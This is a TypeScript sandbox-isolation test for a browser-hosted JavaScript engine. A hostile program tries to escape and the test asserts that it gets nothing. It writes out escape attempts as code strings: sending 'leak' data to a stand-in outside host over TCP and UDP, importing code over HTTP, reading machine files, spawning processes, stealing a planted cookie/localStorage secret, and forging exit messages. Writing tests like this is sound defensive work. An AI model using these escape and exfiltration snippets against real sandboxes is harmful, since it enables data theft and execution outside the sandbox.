/**
 * Programs that want out of the engine. Each attempt is a test; all are made by one program in one page. What they get at in a lab page,
 * with the frame itself in their hands, and by navigation: tests/e2e/isolation.spec.ts. Hangs, floods and bombs: limits.test.ts.
 * Forged records of the grader: tests/labs/tamper-engine.test.ts.
 */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launch, type DrivenBrowser, type DrivenPage } from '../../src/cli/browsers/driver.ts';
import { EngineServer } from '../../src/cli/browsers/engine-server.ts';
import { PageEngine } from '../../src/cli/browsers/page-engine.ts';
import { attempts, documentAttempts, forgeMessages, recoverRealm, tryAll } from '../support/hostile.ts';

const SECRET = 'the-secret-of-the-site';

/** By way of Node's modules. */
const nodeAttempts: Readonly<Record<string, string>> = {
  'node:http':
    'const http = await import("node:http"); return await new Promise((yes, no) => http.get(AWAY, yes).on("error", no))',
  'node:net':
    'const net = await import("node:net"); return await new Promise((yes, no) => net.connect(Number(new URL(AWAY).port), "127.0.0.1", yes).on("error", no))',
  'node:dgram':
    'const dgram = await import("node:dgram"); return await new Promise((yes, no) => dgram.createSocket("udp4").on("error", no).send("leak", Number(new URL(AWAY).port), "127.0.0.1", (error) => (error ? no(error) : yes("sent"))))',
  'node:dns': 'const dns = await import("node:dns/promises"); return (await dns.resolve4("example.org")).join()',
  'import over http': 'return String(await import(AWAY + "/leak.mjs"))',
  'files of the machine': 'return (await import("node:fs")).readFileSync(MACHINE, "utf8")',
  'programs of the machine':
    'return (await import("node:child_process")).execFileSync(EXECUTABLE, ["-e", "console.log(1)"]).toString()',
};

/** Those of the frame that a Worker could have, too. */
const { sendBeacon, popup, RTCPeerConnection: peer } = documentAttempts;
const all = {
  ...attempts,
  ...nodeAttempts,
  ...{
    sendBeacon,
    popup,
    RTCPeerConnection: peer,
    'navigation of the page': documentAttempts['navigation of the page'],
  },
} as Readonly<Record<string, string>>;

describe('a hostile program in the engine', () => {
  const heard: string[] = [];
  const away = createServer((socket) => {
    socket.on('error', () => undefined).on('data', (bytes) => heard.push(bytes.toString('latin1')));
  });
  const datagrams = createSocket('udp4', () => heard.push('datagram'));
  let server: EngineServer;
  let browser: DrivenBrowser;
  let page: DrivenPage;
  let engine: PageEngine;
  let outcomes: Record<string, string> = {};

  beforeAll(async () => {
    away.listen(0, '127.0.0.1');
    await once(away, 'listening');
    const { port } = away.address() as AddressInfo;
    datagrams.bind(port, '127.0.0.1');
    server = await EngineServer.start();
    browser = await launch('chromium');
    page = await browser.newPage();
    engine = await PageEngine.boot(page, server);
    await page.evaluate((secret) => {
      localStorage.setItem('secret', secret);
      document.cookie = `secret=${secret}`;
      document.title = 'untouched';
    }, SECRET);
    const places = `const MACHINE = ${JSON.stringify(import.meta.filename)}; const EXECUTABLE = ${JSON.stringify(process.execPath)};`;
    const site = server.url.replace(/\/$/, '');
    const source = `${places}${recoverRealm}
      const outcomes = await ${tryAll(all, { site, away: `http://127.0.0.1:${String(port)}` })};
      process.stdout.write(JSON.stringify(outcomes), () => process.exit());`;
    await engine.mount({ 'main.mjs': source });
    const { stdout, stderr } = await engine.run(['main.mjs']);
    if (!stdout.startsWith('{')) throw new Error(`no outcomes: ${stdout}${stderr}`);
    outcomes = JSON.parse(stdout) as Record<string, string>;
  });

  afterAll(async () => {
    away.close();
    datagrams.close();
    await browser.close();
    server.close();
  });

  it.each(Object.keys(all))('gets nothing by: %s', (name) => {
    expect(outcomes[name]).toBeTypeOf('string');
    expect(outcomes[name]).not.toMatch(/^got /);
    expect(outcomes[name]).not.toContain(SECRET);
  });

  it.each(['localStorage', 'cookies', 'indexedDB', 'caches', 'fetch'])(
    'and yet the attempt is a real one, for the page itself gets something by: %s',
    async (name) => {
      const source = tryAll({ [name]: all[name] ?? '' }, { site: server.url.replace(/\/$/, ''), away: '' });
      const got = await page.evaluate((script) => (0, eval)(script) as Promise<Record<string, string>>, source);
      expect(got[name]).toMatch(/^got /);
    },
  );

  it('reaches no other host, over TCP or UDP', () => {
    expect(heard).toEqual([]);
  });

  it('leaves the page as it was', async () => {
    const kept = await page.evaluate(
      () => [localStorage.getItem('secret'), document.cookie, document.title, location.pathname, frames.length],
      undefined,
    );
    expect(kept).toEqual([SECRET, `secret=${SECRET}`, 'untouched', '/', 1]);
  });

  it('cannot say for the kernel how it ended, or what another one printed', async () => {
    const forge = `${recoverRealm}${forgeMessages}`;
    const source = `${forge}
      const { Worker, isMainThread } = require('node:worker_threads');
      if (isMainThread) new Worker(__filename).on('exit', () => { console.log('main'); process.exitCode = 3; });`;
    await engine.mount({ 'main.cjs': source });
    const { stdout, exit } = await engine.run(['main.cjs']);
    expect({ stdout, exit }).toMatchObject({ stdout: 'main\n', exit: { code: 3, reason: 'exit' } });
  });
});
